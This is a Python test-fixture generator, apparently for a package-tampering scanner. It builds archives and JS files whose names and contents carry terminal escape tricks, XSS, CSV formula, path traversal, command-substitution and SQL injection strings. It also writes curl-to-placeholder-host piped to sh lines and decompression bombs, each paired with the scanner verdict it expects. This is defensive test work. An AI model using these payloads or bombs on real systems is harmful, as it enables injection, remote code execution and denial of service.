"""Names that speak to a terminal, a browser or a shell, and the marker behind every limit."""

import gzip
import io
import zipfile
import zlib

from hostile import MARKER, ORDINARY_JS, hostile
from hostile_archive import member, pax, tar
from hostile_zip import Entry, package

TERMINAL = [
    b"\x1b]8;;http://link.example\x1b\\click\x1b]8;;\x1b\\", b"\x1b[2J\x1b[1;1Hclean", b"\x1bP+q544e\x1b\\", b"\x1b]52;c;eA==\x07",
    b"\r\x1b[KCLEAN   all is well", b"a\nassay: exit 0: clean", b"\x9b31mred", b"\xc2\x9b31mred",
    "\u202egpj.exe".encode(), "\u2066a\u2069\u200f\u061c".encode(), "\u0301".encode() * 255, b"\x7f\x08\x08\x08",
    b"\xff\xfe\xc0\x80\xed\xa0\x80", b"a!/b!/c", b"a\x0b\x0c\x85b", "\u2028\u2029\ufeff\U000e0041".encode(),
]
PLACES = [
    b"</script><script>alert(1)</script>", b"javascript:alert(1)", b"]]>", b"[click](http://link.example)", b"=cmd|' /c calc'!A0",
    b"%00", b'"}],"verdict":"clean","x":[{"', b"..%2f..%2fetc%2fpasswd", b"$(id)", b"`id`", b"a;id", b"-rf", b"+1", b"@SUM(1)",
    b"&lt;img src=x onerror=alert(1)&gt;", b"'; DROP TABLE findings; --",
]


def with_names(names):
    rows = []
    for i, name in enumerate(names):
        data = ORDINARY_JS + b"// %d\n" % i + MARKER
        rows += [pax([(b"path", b"package/" + name + b".js")]), member(b"package/short%d" % i, data)]
    return tar(*rows)


@hostile(94, "names-for-a-terminal.tar", inspect="review|tampered", diff="tampered")
def terminal():
    return with_names(TERMINAL)


@hostile(94, "names-for-a-terminal.zip", inspect="review|tampered", diff="tampered")
def terminal_zip():
    return package([Entry(b"package/" + name + b".js", ORDINARY_JS + MARKER + b"// %d\n" % i) for i, name in enumerate(TERMINAL)])


@hostile(95, "names-for-a-page.tar", inspect="review|tampered|unknown", diff="tampered")
def page():
    return with_names(PLACES)


@hostile(95, "text-for-a-terminal.js", inspect="review|tampered|unknown", diff="tampered|review")
def evidence():
    """The evidence itself speaks: hosts, commands and strings with control characters, in code that is reported."""
    lines = [b"require('child_process').exec('curl https://cdn.sample-static.example/" + name.replace(b"'", b"").replace(
        b"\n", b"") + b" | sh');\n" for name in TERMINAL + PLACES]
    return ORDINARY_JS + b"".join(lines)


# ---- 96: the marker behind a limit; found or `unknown`, never clean -----------------------------------------------------

def nested_gz(n):
    data = ORDINARY_JS + MARKER
    for _ in range(n):
        data = gzip.compress(data, 6, mtime=0)
    return data


SEEN, HIDDEN = "tampered", "unknown|review: over budget"


@hostile(96, "marker-depth-17.js%s" % (".gz" * 17), inspect="review|tampered", diff=SEEN)
def depth_17():
    return nested_gz(17)


@hostile(96, "marker-depth-33.js.gz", inspect="unknown: over budget", diff=HIDDEN)
def depth_33():
    return nested_gz(33)


@hostile(96, "marker-member-10002.tar.gz", inspect="review|tampered|unknown", diff=SEEN, old=".tar")
def member_10002():
    return gzip.compress(tar(*[member(b"package/f%d.js" % i, b"") for i in range(10001)], member(b"package/last.js", MARKER)),
                         6, mtime=0)


@hostile(96, "marker-after-450mb.zip", inspect="review|unknown: AS-0042", diff="tampered: AS-0042")
def after_450mb():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for i in range(5):
            z.writestr("package/zeros%d.bin" % i, bytes(90 << 20))
        z.writestr("package/last.js", MARKER)
    return out.getvalue()


@hostile(96, "marker-at-101mb.js.gz", inspect="unknown", diff="unknown|review|tampered")
def at_101mb():
    return gzip.compress(b"// " + b"a" * (101 << 20) + b"\n" + MARKER, 6, mtime=0)


@hostile(96, "marker-at-ratio-1000.gz", inspect="unknown", diff="unknown|review|tampered")
def ratio():
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([packer.compress(bytes(1 << 20)) for _ in range(80)]) + packer.compress(MARKER) + packer.flush()


def small(*extra):
    return package([Entry(b"package/f%d.js" % i, ORDINARY_JS + b"// %d\n" % i) for i in range(40)] + list(extra) +
                   [Entry(b"package/last.js", ORDINARY_JS + MARKER)])


@hostile(96, "marker-limit-members.zip", inspect=HIDDEN, diff=HIDDEN, options=["--limit-members", "20"])
def limit_members():
    return small()


@hostile(96, "marker-limit-bytes.zip", inspect="review|unknown: over budget", diff="tampered|review|unknown: over budget", options=["--limit-bytes", "2000"])
def limit_bytes():
    return small(Entry(b"package/more.js", ORDINARY_JS * 400, method=8))


@hostile(96, "marker-limit-depth.tar.gz", inspect=HIDDEN, diff=HIDDEN, options=["--limit-depth", "1"])
def limit_depth():
    return gzip.compress(tar(member(b"package/inner.tar.gz", gzip.compress(tar(member(b"package/a.js", MARKER)), mtime=0))),
                         mtime=0)


@hostile(96, "marker-limit-steps.js", inspect=HIDDEN, diff=HIDDEN, options=["--limit-steps", "500"])
def limit_steps():
    return ORDINARY_JS * 200 + MARKER


@hostile(96, "marker-name-5000.tar", inspect="review|tampered: AS-0042", diff="tampered: AS-0042")
def long_name():
    return tar(pax([(b"path", b"package/" + b"n" * 5000 + b".js")]), member(b"package/n.js", MARKER))


@hostile(96, "marker-long-literal.js", inspect="review|tampered|unknown", diff="tampered|review|unknown")
def long_literal():
    return ORDINARY_JS + b"var filler = '" + b"abcdefgh" * (1 << 18) + b"';\n" + MARKER


@hostile(96, "marker-column-1000000.js", inspect="review|tampered|unknown", diff="tampered|review|unknown")
def far_right():
    return ORDINARY_JS + b" " * 10 ** 6 + MARKER.replace(b"\n", b" ") + b"\n"


@hostile(96, "marker-statement-50001.js", inspect="review|tampered|unknown", diff="tampered|review|unknown")
def late_statement():
    return ORDINARY_JS + b"".join(b"exports.a%d = %d;\n" % (i, i) for i in range(50000)) + MARKER
